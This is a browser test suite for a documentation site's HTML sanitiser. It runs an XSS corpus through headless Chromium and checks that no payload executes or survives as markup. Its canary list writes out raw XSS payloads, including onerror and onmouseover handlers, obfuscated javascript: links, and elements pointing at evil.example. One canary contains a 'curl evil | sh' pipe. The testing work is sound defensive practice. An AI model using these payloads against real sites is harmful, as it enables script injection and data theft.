'use strict';
/* The sanitiser corpus: every input of tests/fixtures/xss-corpus/vectors.txt (at least
   200, from the public literature on sanitiser bypasses) in its own module file, added to
   a copy of the real catalogue and built. The site is served WITHOUT any
   Content-Security-Policy: the sanitiser must hold alone (the CSP is the second wall,
   tested by xss.test.js).

   In one headless Chromium page, for each input's module page: a trap set before the
   page's scripts records alert/confirm/prompt/print/open, dialogs, navigations away from
   the page and requests to other hosts (which never leave the machine: the browser
   resolves no host name but 127.0.0.1's, instead of a page.route stub, because routing
   turns Chromium's cache off and makes 300 pages twice as slow); every element of the description is
   hovered with the real mouse, focused, and sent the synthetic pointer, mouse and focus
   events; then the DOM is scanned. A finding is: any call the trap saw, any navigation,
   any external request but an https image; in the description any event-handler
   attribute, a `name`, a `style` or `srcdoc` attribute, any URL attribute whose value has
   a scheme other than http(s)/mailto once every invisible character is dropped (or that
   the browser resolves so), a relative URL that is not a link to an existing module page,
   an element among script, iframe, object, embed, base, meta, form, style, link, frame,
   frameset, applet, portal, noscript, template, svg, math and form controls, an id that
   another element of the page has too (DOM clobbering); anywhere in the page an event
   handler, an inline script that is not JSON-LD, a base, a meta http-equiv, a frame or
   object. data: URLs are never allowed (not even images: the allow-list has http(s) and
   mailto only, and the CSP's img-src has no data: either).

   A last test serves a handcrafted, unsanitised page through the same visit and scan: it
   must be caught, so a scan that stops seeing anything fails. Without /usr/bin/chromium
   the browser tests are skipped, or fail when CI is set. */
const test = require('node:test');
const assert = require('node:assert/strict');
const fs = require('node:fs');
const path = require('node:path');
const { buildSite, ROOT, fixtureFiles } = require('./lib/site');
const { serve } = require('./lib/server');
const { CHROMIUM, ARGS, haveChromium, inCi } = require('./lib/browser');
const corpus = require('../fixtures/xss-corpus/generate');

const DIR = corpus.DIR;
const INPUTS = corpus.inputs();
const TIMEOUT = 600000;
/* The description on a module page. */
const DESCRIPTION = '#description-title ~ .prose';
/* Elements a page may have at most so many of to be hovered one by one. */
const MAX_HOVERED = 80;

test('the corpus: at least 200 inputs, each in its own module file, as generate.js writes it', () => {
  assert.ok(INPUTS.length >= 200, `${INPUTS.length} inputs`);
  const vectors = new Set(INPUTS.map((i) => i.vector));
  assert.equal(vectors.size, INPUTS.length, 'no input is listed twice');
  assert.deepEqual(fixtureFiles(DIR), INPUTS.map((i) => `${i.slug}.md`), 'one file per input (node tests/fixtures/xss-corpus/generate.js)');
  for (const input of INPUTS) {
    assert.equal(fs.readFileSync(path.join(DIR, `${input.slug}.md`), 'utf8'), corpus.moduleText(input),
      `${input.slug}.md is what generate.js writes for vectors.txt line ${input.line}`);
  }
  const real = new Set(fixtureFiles(path.join(ROOT, 'modules')));
  for (const input of INPUTS) assert.ok(!real.has(`${input.slug}.md`), `${input.slug} is not a module of the catalogue`);
  const techniques = new Set(INPUTS.map((i) => i.technique));
  assert.ok(techniques.size >= 10, `${techniques.size} techniques`);
});

if (!haveChromium()) {
  const why = `${CHROMIUM} not found: install Debian's Chromium (apt-get install chromium) to run the browser tests`;
  if (inCi()) {
    test('sanitiser corpus browser tests need Chromium', () => assert.fail(`${why}; CI is set, so a missing browser is a failure`));
  } else {
    console.log(`sanitiser corpus browser tests skipped: ${why}`);
    test('sanitiser corpus browser tests', { skip: why }, () => {});
  }
} else {
  browserTests();
}

/* Runs in every document before its scripts: whatever a vector would call is recorded in
   window.__trapped instead of run. */
function trap() {
  const trapped = [];
  Object.defineProperty(window, '__trapped', { value: trapped });
  for (const name of ['alert', 'confirm', 'prompt', 'print', 'open']) {
    const record = function (...args) {
      trapped.push(`${name}(${args.map(String).join(', ').slice(0, 80)})`);
      return name === 'open' ? null : undefined;
    };
    try {
      Object.defineProperty(window, name, { value: record, writable: false, configurable: false });
    } catch (error) {
      trapped.push(`could not trap ${name}`);
    }
  }
}

/* Runs in the page: every element of the description focused and sent the events of a
   hover and a focus; returns the centres of those with a box in the viewport, once the
   description is scrolled to its top (to hover them with the real mouse), and the
   indexes of those below it. */
function interact(selector) {
  const root = document.querySelector(selector);
  if (!root) return null;
  const elements = [...root.querySelectorAll('*')];
  window.__hover = elements;
  for (const el of [root, ...elements]) {
    for (const type of ['pointerover', 'pointerenter', 'pointermove', 'pointerdown', 'pointerup']) {
      el.dispatchEvent(new PointerEvent(type, { bubbles: type !== 'pointerenter' }));
    }
    for (const type of ['mouseover', 'mouseenter', 'mousemove', 'mousedown', 'mouseup', 'mouseout', 'mouseleave']) {
      el.dispatchEvent(new MouseEvent(type, { bubbles: !type.endsWith('enter') && !type.endsWith('leave') }));
    }
    for (const type of ['focus', 'focusin', 'blur', 'focusout']) {
      el.dispatchEvent(new FocusEvent(type, { bubbles: type.startsWith('focus') && type !== 'focus' }));
    }
    if (typeof el.focus === 'function') el.focus({ preventScroll: true });
  }
  root.scrollIntoView({ block: 'start' });
  const centres = [];
  const below = [];
  elements.forEach((el, i) => {
    const r = el.getBoundingClientRect();
    if (r.width === 0 || r.height === 0) return;
    if (r.bottom > innerHeight || r.top < 0) below.push(i);
    else centres.push([r.left + r.width / 2, r.top + r.height / 2]);
  });
  return { centres, below };
}

/* Runs in the page: the centre of the i-th element of `interact`, scrolled into view, or
   null when it has no box. */
function centre(i) {
  const el = window.__hover[i];
  if (!el || !el.isConnected) return null;
  el.scrollIntoView({ block: 'center', inline: 'center' });
  const r = el.getBoundingClientRect();
  if (r.width === 0 || r.height === 0) return null;
  return [r.left + r.width / 2, r.top + r.height / 2];
}

/* Runs in the page: what of a vector reached it. `modules`: the slugs of the site. */
function scan({ selector, modules }) {
  const found = [];
  const snippet = (el) => el.outerHTML.slice(0, 140);
  const URL_ATTRIBUTES = ['href', 'xlink:href', 'src', 'srcset', 'imagesrcset', 'action', 'formaction', 'data', 'poster',
    'background', 'ping', 'codebase', 'cite', 'longdesc', 'manifest', 'icon', 'dynsrc', 'lowsrc', 'usemap', 'profile',
    'classid', 'archive', 'xml:base', 'to', 'from', 'values', 'by'];
  const ELEMENTS = ['script', 'iframe', 'object', 'embed', 'base', 'meta', 'form', 'style', 'link', 'frame', 'frameset',
    'applet', 'portal', 'noscript', 'template', 'svg', 'math', 'input', 'button', 'textarea', 'select', 'option',
    'isindex', 'keygen', 'video', 'audio', 'source', 'track', 'picture', 'marquee', 'xmp', 'plaintext', 'listing',
    'noembed', 'noframes', 'title', 'image', 'use', 'animate', 'set'];
  const SAFE_SCHEMES = ['http', 'https', 'mailto'];
  /* every invisible character: white space, controls, format characters */
  const INVISIBLE = /[\s\p{Cc}\p{Cf}\u00a0\u1680\u180e\u2000-\u200f\u2028-\u202f\u205f-\u206f\u3000\u3164\ufeff\uffa0]/gu;
  const decode = (v) => {
    try {
      return decodeURIComponent(v);
    } catch (error) {
      return v;
    }
  };
  /* the scheme of a value a browser, a reader or a careless tool could see */
  const schemes = (value) => {
    const out = [];
    for (const v of [value, decode(value)]) {
      const bare = v.replace(INVISIBLE, '').toLowerCase();
      const m = /^([^/?#]*?):/.exec(bare);
      if (m) out.push(m[1]);
    }
    return out;
  };
  const moduleLink = (a) => {
    const url = new URL(a.getAttribute('href').trim(), location.href);
    const m = /^\/modules\/([a-z0-9-]+)\/(index\.html)?$/.exec(url.pathname);
    return url.origin === location.origin && m && modules.includes(m[1]);
  };
  const urls = (name, value) => (name === 'srcset' || name === 'imagesrcset'
    ? value.split(',').map((c) => c.trim().split(/\s+/)[0]).filter(Boolean)
    : name === 'ping' || name === 'archive' ? value.split(/\s+/).filter(Boolean) : [value]);

  const root = document.querySelector(selector);
  if (!root) return ['the page has no description'];
  for (const el of [root, ...root.querySelectorAll('*')]) {
    const tag = el.localName;
    if (el !== root && ELEMENTS.includes(tag)) found.push(`a <${tag}> element in the description: ${snippet(el)}`);
    for (const attr of Array.from(el.attributes)) {
      const name = attr.name.toLowerCase();
      if (name.startsWith('on')) found.push(`event handler ${name}: ${snippet(el)}`);
      if (['style', 'srcdoc', 'name', 'form', 'autofocus', 'contenteditable'].includes(name) && el !== root) {
        found.push(`${name} attribute: ${snippet(el)}`);
      }
      if (!URL_ATTRIBUTES.includes(name) && !name.endsWith(':href')) continue;
      for (const value of urls(name, attr.value)) {
        for (const scheme of schemes(value)) {
          if (!SAFE_SCHEMES.includes(scheme)) found.push(`${name} with the scheme ${JSON.stringify(scheme)}: ${snippet(el)}`);
        }
        let resolved = null;
        try {
          resolved = new URL(value, location.href);
        } catch (error) {
          found.push(`${name} the browser cannot parse: ${snippet(el)}`);
          continue;
        }
        if (!SAFE_SCHEMES.includes(resolved.protocol.slice(0, -1))) found.push(`${name} resolves to ${resolved.protocol}: ${snippet(el)}`);
        if (schemes(value).length === 0 && !value.trim().startsWith('#') && !(tag === 'a' && name === 'href' && moduleLink(el))) {
          found.push(`relative ${name} that is no link to a module page: ${snippet(el)}`);
        }
      }
    }
    if ((tag === 'a' || tag === 'area') && el.hasAttribute('href') && !SAFE_SCHEMES.includes(el.protocol.slice(0, -1))) {
      found.push(`a link to ${el.protocol}: ${snippet(el)}`);
    }
    if (el.id && el !== root) {
      const same = document.querySelectorAll(`[id="${CSS.escape(el.id)}"]`);
      if (same.length > 1 || document.getElementById(el.id) !== el) found.push(`the id ${JSON.stringify(el.id)} is also the page's (DOM clobbering): ${snippet(el)}`);
    }
  }
  /* the whole page: what could have escaped the description */
  for (const el of document.querySelectorAll('*')) {
    const tag = el.localName;
    for (const attr of Array.from(el.attributes)) {
      if (attr.name.toLowerCase().startsWith('on') && !root.contains(el)) found.push(`event handler ${attr.name} outside the description: ${snippet(el)}`);
    }
    if (tag === 'script' && !el.hasAttribute('src') && el.type !== 'application/ld+json') found.push(`inline script: ${snippet(el)}`);
    if (tag === 'script' && el.hasAttribute('src') && new URL(el.src).origin !== location.origin) found.push(`external script: ${snippet(el)}`);
    if (['iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'base', 'portal'].includes(tag) && !root.contains(el)) found.push(`a <${tag}> element: ${snippet(el)}`);
    if (tag === 'meta' && el.hasAttribute('http-equiv')) found.push(`meta http-equiv: ${snippet(el)}`);
  }
  if (document.baseURI !== location.href) found.push(`the base URL is ${document.baseURI}`);
  if (!document.querySelector('#use') || root.contains(document.querySelector('#use'))) found.push('the page after the description is gone');
  if (!document.querySelector('body > footer')) found.push('the page ends early: no footer');
  for (const call of window.__trapped || ['the trap is missing']) found.push(`called ${call}`);
  return found;
}

function browserTests() {
  let site = null;
  let server = null;
  let browser = null;
  let opened = null;
  const events = { navigations: [], requests: [] };
  let modules = [];
  const spent = { load: 0, hover: 0, scan: 0 };

  test.before(async () => {
    site = buildSite({ fixtures: [DIR] });
    modules = fs.readdirSync(path.join(site.dir, 'modules'), { withFileTypes: true }).filter((e) => e.isDirectory()).map((e) => e.name);
    /* no CSP; the theme's files may be cached (the server says no-store by default) */
    server = await serve(site.dir, { headers: { 'Cache-Control': 'max-age=3600' } });
    const { chromium } = require('playwright-core');
    browser = await chromium.launch({ executablePath: CHROMIUM, headless: true, timeout: 30000,
      args: [...ARGS, '--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1'] });
    const context = await browser.newContext({ baseURL: server.url, viewport: { width: 1280, height: 900 } });
    await context.addInitScript(trap);
    const page = await context.newPage();
    page.setDefaultTimeout(15000);
    opened = { context, page, watch: { dialogs: [] } };
    page.on('dialog', (dialog) => {
      opened.watch.dialogs.push(`${dialog.type()}: ${dialog.message()}`);
      dialog.dismiss().catch(() => {});
    });
    const origin = new URL(server.url).origin;
    page.on('framenavigated', (frame) => {
      const url = frame.url();
      if (!url.startsWith(origin + '/') && url !== 'about:blank') events.navigations.push(`${frame === page.mainFrame() ? 'the page' : 'a frame'} went to ${url.slice(0, 100)}`);
    });
    page.on('request', (request) => {
      const url = request.url();
      if (url.startsWith(origin + '/')) return;
      if (request.resourceType() === 'image' && /^https:/.test(url)) return; /* allowed: img-src https: */
      events.requests.push(`a ${request.resourceType()} request to ${url.slice(0, 100)}`);
    });
  });

  test.after(async () => {
    if (opened) await opened.context.close().catch(() => {});
    if (browser) await browser.close();
    if (server) await server.close();
    if (site) site.cleanup();
  });

  /* Loads one module page, hovers and focuses its description, scans it; returns the
     findings. `route`: an HTML body served instead of the built page. */
  async function check(slug, route) {
    const { page, watch } = opened;
    events.navigations.length = 0;
    events.requests.length = 0;
    const dialogs = watch.dialogs.length;
    const url = `modules/${slug}/index.html`;
    if (route) await page.route(`**/${url}`, (r) => r.fulfill({ status: 200, contentType: 'text/html; charset=utf-8', body: route }));
    const found = [];
    try {
      let t = Date.now();
      const response = await page.goto(url, { waitUntil: 'load' });
      spent.load += Date.now() - t;
      t = Date.now();
      assert.equal(response.status(), 200, `${url} exists`);
      assert.equal(response.headers()['content-security-policy'], undefined, 'served without a CSP');
      const boxes = await page.evaluate(interact, DESCRIPTION);
      if (!boxes) found.push('the page has no description');
      const { centres, below } = boxes || { centres: [], below: [] };
      /* sent at once: the browser takes them in order, without a round trip each */
      await Promise.all(centres.slice(0, MAX_HOVERED).map(([x, y]) => page.mouse.move(x, y)));
      for (const i of below.slice(0, MAX_HOVERED - Math.min(centres.length, MAX_HOVERED))) {
        const at = await page.evaluate(centre, i);
        if (at) await page.mouse.move(at[0], at[1]);
      }
      await page.keyboard.press('Tab');
      await page.evaluate(() => new Promise((r) => requestAnimationFrame(() => setTimeout(r, 20))));
      spent.hover += Date.now() - t;
      t = Date.now();
      found.push(...await page.evaluate(scan, { selector: DESCRIPTION, modules }));
      spent.scan += Date.now() - t;
    } catch (error) {
      /* a navigation away destroys the page's context: that is a finding too */
      found.push(`the page could not be checked: ${error.message.split('\n')[0]}`);
    } finally {
      if (route) await page.unroute(`**/${url}`);
    }
    found.push(...events.navigations, ...events.requests, ...watch.dialogs.slice(dialogs).map((d) => `a dialog: ${d}`));
    return found;
  }

  test(`the corpus without a CSP: none of the ${INPUTS.length} inputs runs or survives as markup`, { timeout: TIMEOUT }, async () => {
    const started = Date.now();
    const failures = [];
    for (const input of INPUTS) {
      const found = await check(input.slug);
      if (found.length) {
        failures.push(`${input.slug}.md (vectors.txt line ${input.line}, ${input.technique}): ${JSON.stringify(input.vector)}\n    ${found.join('\n    ')}`);
      }
    }
    const secs = (ms) => `${(ms / 1000).toFixed(1)} s`;
    console.log(`# ${INPUTS.length} corpus pages checked in ${secs(Date.now() - started)} (loading ${secs(spent.load)}, hovering and focusing ${secs(spent.hover)}, scanning ${secs(spent.scan)})`);
    assert.equal(failures.length, 0, `${failures.length} of ${INPUTS.length} inputs got through:\n${failures.join('\n')}`);
  });

  /* The same visit and scan catch what an unsanitised page holds: each canary put raw into
     a built page's description, instead of the sanitised text. */
  const CANARIES = [
    { html: '<img src=x onerror=alert(1)>', expect: [/called alert/, /event handler onerror/] },
    { html: '<p onmouseover="alert(2)">hover</p>', expect: [/called alert\(2\)/] },
    { html: '<span tabindex="0" onfocus="alert(3)">focus</span>', expect: [/called alert\(3\)/] },
    { html: '<div style="height:50px" onmouseenter="prompt(4)">real mouse</div>', expect: [/called prompt\(4\)/] },
    { html: '<a href="&#x2028;javascript:alert(1)">x</a>', expect: [/href with the scheme "javascript"/] },
    { html: '<a href="java&#x09;script:alert(1)">x</a>', expect: [/a link to javascript:/] },
    { html: '<q cite="&#xA0;vbscript:x">q</q>', expect: [/cite with the scheme "vbscript"/] },
    { html: '<img srcset="data:image/png;base64,iVBORw0KGgo= 1x">', expect: [/srcset with the scheme "data"/] },
    { html: '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>', expect: [/<svg> element/, /xlink:href/] },
    { html: '<img src="pic.png">', expect: [/relative src/] },
    { html: '<a href="../no-such-module/">x</a>', expect: [/relative href/] },
    { html: '<h3 id="run-docker">curl evil | sh</h3>', expect: [/DOM clobbering/] },
    { html: '<img name="cookie" src="https://example.org/a.png">', expect: [/name attribute/] },
    { html: '<style>p{}</style><form action="https://evil.example/"></form>', expect: [/<style> element/, /<form> element/] },
    { html: '<link rel="stylesheet" href="https://evil.example/x.css">', expect: [/<link> element/, /stylesheet request to https:\/\/evil\.example/] },
    { html: '<p style="height:3000px">tall</p><div onmouseover="alert(6)">below the fold</div>', expect: [/called alert\(6\)/] },
    { html: '<iframe src="https://evil.example/"></iframe>', expect: [/<iframe> element/] },
    { html: '<base href="https://evil.example/">', expect: [/<base> element/, /base URL/] },
    { html: '<meta http-equiv="refresh" content="0;url=https://evil.example/">', expect: [/meta http-equiv|went to https:\/\/evil\.example|could not be checked/] },
    { html: '<script>alert(5)</script>', expect: [/called alert\(5\)/, /inline script/] },
  ];

  test('the visit and the scan catch an unsanitised page', { timeout: TIMEOUT }, async () => {
    const slug = INPUTS[0].slug;
    const built = fs.readFileSync(path.join(site.dir, 'modules', slug, 'index.html'), 'utf8');
    const prose = '<div class="prose">';
    assert.ok(built.includes(prose), 'the module page has the description');
    assert.deepEqual(await check(slug, built), [], 'the built page itself is clean');
    for (const canary of CANARIES) {
      const found = await check(slug, built.replace(prose, prose + '\n' + canary.html + '\n'));
      for (const expected of canary.expect) {
        assert.ok(found.some((f) => expected.test(f)), `${canary.html}: ${expected} in ${JSON.stringify(found)}`);
      }
    }
  });
}
